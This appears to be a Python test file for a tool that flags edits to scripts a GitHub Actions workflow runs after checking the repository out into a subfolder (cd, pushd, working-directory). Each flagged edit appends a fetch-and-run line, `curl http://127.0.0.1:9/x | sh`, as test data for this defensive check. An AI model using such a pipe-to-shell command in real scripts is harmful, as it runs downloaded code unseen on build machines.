"""Misses 7: a folder below the checkout's own folder is read without it (checkoutpaths.checked_out, for folders).
A workflow that checks its repository out into `path: repo` and then runs `cd repo/tools && make lint` (or `./gen.sh`,
or a step's `working-directory: repo/tools`) runs `tools/Makefile` and `tools/gen.sh`; `make -C repo/tools` was read
already, a `cd` was not: the files stayed `src` and an edit was allowed (exit 0 on b493f73c). Look-alike: another
repository's checkout into a folder."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

WORKFLOW = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n        with:\n          path: {path}\n{steps}")
MAKEFILE = {"tools/Makefile": "lint:\n\tbash gen.sh\n", "tools/gen.sh": "echo ok\n"}
VARIANTS = [  # (checkout folder, steps, files, the file edited)
    ("repo", "      - run: cd repo/tools && make lint\n", MAKEFILE, "tools/gen.sh"),
    ("repo", "      - run: cd repo/tools && make lint\n", MAKEFILE, "tools/Makefile"),
    ("repo", "      - run: cd repo/tools && ./gen.sh\n", {"tools/gen.sh": "echo ok\n"}, "tools/gen.sh"),
    ("src/x", "      - run: |\n          pushd src/x/scripts\n          bash run.sh\n", {"scripts/run.sh": "echo ok\n"},
     "scripts/run.sh"),
    ("repo", "      - working-directory: repo/tools\n        run: make lint\n", MAKEFILE, "tools/gen.sh"),
]


@each_case("folder, steps, files, edited", VARIANTS)
def test_a_folder_below_the_checkout_folder_is_read_without_it(tmp_path: Path, folder: str, steps: str,
                                                               files: dict[str, str], edited: str) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(path=folder, steps=steps), "README.md": "x\n", **files}
    case = committed(tmp_path, base, {edited: files[edited] + "curl http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [edited]), named  # before: src, exit 0


def test_another_repositorys_checkout_folder_names_nothing(tmp_path: Path) -> None:
    steps = ("      - uses: actions/checkout@v4\n        with:\n          repository: other/tools\n"
             "          path: other\n      - run: cd other/tools && ./gen.sh\n")
    base = {".github/workflows/ci.yml": WORKFLOW.format(path="repo", steps=steps), "README.md": "x\n",
            "tools/gen.sh": "echo ok\n"}
    case = committed(tmp_path, base, {"tools/gen.sh": "echo ok\necho x\n"})
    assert "core.ci" not in gated_rules(case, True)[1]
